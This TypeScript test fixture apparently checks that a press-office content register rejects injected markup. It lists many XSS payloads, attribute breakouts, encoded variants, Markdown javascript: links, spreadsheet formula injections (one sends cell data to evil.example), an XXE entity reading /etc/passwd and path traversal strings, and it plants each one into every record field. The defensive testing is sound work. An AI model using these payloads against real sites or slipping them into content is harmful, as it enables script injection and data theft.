import type { Finding } from '../src/domain/finding.ts';
import type { Register } from '../src/register/register.ts';
import { smallRegister } from './tree.ts';

/** What runs where a payload gets through: the pages under test take `alert` for a trap. */
const call = 'alert(1)';
const host = 'https://evil.example';

/** Markup that runs a script of its own, or brings one in. */
const html = [
  `<script>${call}</script>`,
  `<script src=${host}/x.js></script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script/x>${call}</script>`,
  `<script\t>${call}</script >`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<<script>${call}//<</script>`,
  `<script>${call}`,
  `<script type=module>import '${host}/x.js'</script>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}">`,
  `<img/src=x/onerror=${call}>`,
  `<img src=x onerror=${call}//`,
  `<img src="x\`\`onerror=${call}">`,
  `<IMG """><SCRIPT>${call}</SCRIPT>">`,
  `<img src=${host}/pixel.png>`,
  `<img srcset="${host}/pixel.png 1x">`,
  `<img lowsrc=${host}/a dynsrc=${host}/b>`,
  `<image src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="${host}/x.js"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${call}</script>"></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<math><a href="javascript:${call}">x</a></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<body onload=${call}>`,
  `<body onpageshow=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${call}&lt;/script&gt;"></iframe>`,
  `<iframe src=${host}></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<embed src="javascript:${call}">`,
  `<embed src=${host}/x.swf>`,
  `<applet code=x></applet>`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<form><button formaction="javascript:${call}">x</button></form>`,
  `<isindex type=image src=1 onerror=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<keygen autofocus onfocus=${call}>`,
  `<a autofocus tabindex=1 onfocus=${call}>x</a>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<video src=x onerror=${call}>`,
  `<video poster=${host}/p.png>`,
  `<audio src=x onerror=${call}>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<b onmouseover=${call}>x</b>`,
  `<p style="animation-name:x" onanimationstart=${call}>`,
  `<div style="background:url(${host}/p.png)">x</div>`,
  `<div style="width:expression(${call})">x</div>`,
  `<style>@import '${host}/x.css';</style>`,
  `<style>*{background:url(${host}/p.png)}</style>`,
  `<link rel=stylesheet href=${host}/x.css>`,
  `<link rel=import href=${host}/x.html>`,
  `<link rel=prefetch href=${host}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=${host}">`,
  `<base href=${host}/>`,
  `<template><script>${call}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<dialog open onclose=${call}><form method=dialog><button>x</button></form></dialog>`,
  `<xss id=x tabindex=1 onfocus=${call}></xss>`,
  `<a href="javascript:${call}">x</a>`,
  `<a href="jav&#x09;ascript:${call}">x</a>`,
  `<a href="&#106;avascript:${call}">x</a>`,
  `<a href=" javascript:${call}">x</a>`,
  `<table background="javascript:${call}"><tr><td>x</table>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!-- --!><img src=x onerror=${call}> -->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${call}</h:script></x>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>`,
];

/** Ends of what a page may stand a text in, with something that runs behind them. */
const breakouts = [
  `</script><script>${call}</script>`,
  `</script ><img src=x onerror=${call}>`,
  `</style><img src=x onerror=${call}>`,
  `</title><img src=x onerror=${call}>`,
  `</textarea><img src=x onerror=${call}>`,
  `</noscript><img src=x onerror=${call}>`,
  `</template><img src=x onerror=${call}>`,
  `</main></body></html><script>${call}</script>`,
  `--><img src=x onerror=${call}>`,
  `]]><img src=x onerror=${call}>`,
  `?><img src=x onerror=${call}>`,
  `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`,
  `"><svg/onload=${call}>`,
  `"/><script>${call}</script>`,
];

/** Ends of attributes, scripts and data that need no bracket: text that any record may hold. */
const plain = [
  `" onmouseover="${call}`,
  `' onmouseover='${call}`,
  `" autofocus onfocus="${call}`,
  `' autofocus onfocus=${call} x='`,
  `x onfocus=${call} autofocus`,
  `\u201d onmouseover=\u201d${call}`,
  `";${call};//`,
  `';${call};//`,
  `"-${call}-"`,
  `'-${call}-'`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `{${call}}`,
  `#{${call}}`,
  `%7B${call}%7D`,
  `\\";${call};//`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
  `"}]});${call};//`,
  `","__proto__":{"x":1},"y":"`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `\u2039script\u203a${call}`,
  `javascript:${call}`,
  `JaVaScRiPt:${call}//`,
  `data:text/html,${call}`,
  `vbscript:${call}`,
  `=HYPERLINK("${host}","x")`,
  `=cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `=IMPORTXML(CONCAT("${host}/?v=",A1),"//a")`,
  `BEGIN:VCALENDAR END:VEVENT URL:javascript:${call}`,
  `::error file=x::${call}`,
  `::set-output name=x::${call}`,
  '@everyone #1 [skip ci]',
  '../../../../etc/passwd',
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${call}&#x3e;`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&quot; onmouseover=&quot;${call}`,
  `&NewLine;javascript&colon;${call}`,
];

/** Links, pictures and references of Markdown that lead to a script or off the site. */
const markdown = [
  `[x](javascript:${call})`,
  `[x](JAVASCRIPT:${call})`,
  `[x]( javascript:${call})`,
  `[x](java&#115;cript:${call})`,
  `[x](javascript&colon;${call})`,
  `[x](&#x6A;avascript:${call})`,
  `[x](<javascript:${call}>)`,
  `[x](javascript\\:${call})`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](data:text/html,<script>${call}</script>)`,
  `[x](vbscript:${call})`,
  `[x](file:///etc/passwd)`,
  `[x](//evil.example)`,
  `[x](/\\evil.example)`,
  `[x](https:evil.example)`,
  `[x](https://an-phu.example@evil.example/)`,
  `[x](https://evil.example "x" onmouseover="${call}")`,
  `[x](https://evil.example/"onmouseover="${call})`,
  `[x](https://evil.example '"><img src=x onerror=${call}>')`,
  `![x](x"onerror="${call})`,
  `![x](${host}/pixel.png)`,
  `![x"onerror="${call}](/favicon.svg)`,
  `![x](javascript:${call})`,
  `[x][y] [y]: javascript:${call}`,
  `[x]: javascript:${call}`,
  `<javascript:${call}>`,
  `<data:text/html,${call}>`,
  `<https://evil.example/"onmouseover="${call}>`,
  `[<img src=x onerror=${call}>](/don-vi/)`,
  `[x](mailto:a@b.example?subject=x&body=%0d%0aBcc:c@d.example)`,
  `[x](mailto:javascript:${call})`,
  `[x](tel:javascript:${call})`,
  `\`\`\`<img src=x onerror=${call}>\`\`\``,
  `[^1]: <img src=x onerror=${call}>`,
];

/** Well-known shapes of what makes a page run a script or call elsewhere, and of what spreadsheets and hosts run. */
export const payloads: readonly string[] = [...html, ...breakouts, ...plain, ...markdown];

/** Payloads that mean something in the text of a record, where they are to be refused. */
export const markup: ReadonlySet<string> = new Set([...html, ...breakouts, ...markdown]);

const speaker = 'speaker: tran-thi-mai-lan';
const approval = 'approval:\n  by: tran-thi-mai-lan\n  at: 2026-10-12T16:00+07:00';

type Typed = (field: string) => string;

interface FormOfRecord {
  path: (name: string) => string;
  fields: readonly string[];
  front: (text: Typed) => string;
}

/** The records that texts are put into: each field is typed as a quoted line, the body as it is. */
const forms: Readonly<Record<string, FormOfRecord>> = {
  responses: {
    path: (name: string) => `departments/an-phu/responses/2026-10-05-${name}.md`,
    fields: ['title', 'summary'],
    front: (text: Typed) =>
      `title: ${text('title')}\noutlet: bao-an-phu\nkind: petition\norigin: forwarded\nreceivedOn: 2026-10-05\nreply:\n  number: 41/CTHADS\n  date: 2026-10-20\n  to: bao-an-phu\n  states: result\n  summary: ${text('summary')}\n${speaker}\n${approval}\n`,
  },
  statements: {
    path: (name: string) => `departments/an-phu/statements/2026-10-13-${name}.md`,
    fields: ['title'],
    front: (text: Typed) =>
      `title: ${text('title')}\noccurredAt: 2026-10-13T08:00+07:00\nneedsInitialInformation: true\nimpact: normal\nreleasedAt: 2026-10-13T10:30+07:00\n${speaker}\n${approval}\n`,
  },
  corrections: {
    path: (name: string) => `departments/an-phu/corrections/2026-10-13-${name}.md`,
    fields: ['title', 'article', 'grounds', 'legalReference'],
    front: (text: Typed) =>
      `title: ${text('title')}\noutlet: tap-chi-dan-sinh\narticle:\n  title: ${text('article')}\npublishedOn: 2026-10-08\ngrounds: ${text('grounds')}\nlegalReference: ${text('legalReference')}\nrequestedOn: 2026-10-13\n${speaker}\ndocument:\n  number: 29/CTHADS\n  date: 2026-10-13\n${approval}\noutcome: published\noutcomeOn: 2026-10-14\n`,
  },
  requests: {
    path: (name: string) => `departments/an-phu/requests/2026-10-13-${name}.md`,
    fields: ['topic'],
    front: (text: Typed) =>
      `receivedAt: 2026-10-13T09:00+07:00\nfrom: tap-chi-dan-sinh\nchannel: email\ntopic: ${text('topic')}\noutcome: answered\npromisedFor: 2026-10-15\nansweredAt: 2026-10-14T15:00+07:00\n${speaker}\n${approval}\n`,
  },
  outlets: {
    path: (name: string) => `outlets/bao-${name}.md`,
    fields: ['name'],
    front: (text: Typed) => `name: ${text('name')}\nscope: local\ncontact: toasoan@bao-an-phu.example\n`,
  },
};

/** Every place for a text: a type of record with a field of it, or with its body. */
export const places: readonly (readonly [form: string, field: string])[] = Object.entries(forms).flatMap(
  ([form, { fields }]) => [...fields, 'body'].map((field) => [form, field] as const),
);

function formOf(form: string): FormOfRecord {
  const found = forms[form];
  if (!found) throw new Error(`No form for ${form}`);
  return found;
}

/** A record with texts in some of its places and plain words in the others: its path and what is typed. */
export function recordWith(
  form: string,
  name: string,
  texts: Readonly<Record<string, string>>,
): readonly [path: string, text: string] {
  const { path, front } = formOf(form);
  const typed: Typed = (field) => JSON.stringify(texts[field] ?? `Chữ thường ${name}`);
  return [path(name), `---\n${front(typed)}---\n\n${texts['body'] ?? 'Nội dung.'}\n`];
}

/** A record for each payload in each place. */
export const typed = places.flatMap(([form, field], place) =>
  payloads.map((payload, index) => {
    const [path, text] = recordWith(form, `${place}-${index}`, { [field]: payload });
    return { form, field, payload, file: `content/${path}`, path, text };
  }),
);

/** The register of the small tree with all of them, and what is wrong with each file. */
export function refusals(): { register: Register; of: (file: string) => readonly Finding[] } {
  const register = smallRegister(Object.fromEntries(typed.map(({ path, text }) => [path, text])));
  const found = Map.groupBy(register.findings, ({ file }) => file);
  return { register, of: (file) => found.get(file) ?? [] };
}

/** Records that hold every payload wherever it is accepted, many in one place: their paths and what is typed. */
export function crowdedRecords(): Record<string, string> {
  const { of } = refusals();
  const perRecord = 25;
  const records: Record<string, string> = {};
  for (const form of Object.keys(forms)) {
    for (let from = 0; from < payloads.length; from += perRecord) {
      const some = new Set(payloads.slice(from, from + perRecord));
      const accepted = typed.filter(
        (one) => one.form === form && some.has(one.payload) && of(one.file).length === 0,
      );
      const byField = Map.groupBy(accepted, ({ field }) => field);
      const texts = [...byField].map(([field, ones]) => [
        field,
        ones.map(({ payload }) => payload).join(field === 'body' ? '\n\n' : ' '),
      ]);
      const [path, text] = recordWith(
        form,
        `nhieu-${from}`,
        Object.fromEntries(texts) as Record<string, string>,
      );
      records[path] = text;
    }
  }
  return records;
}
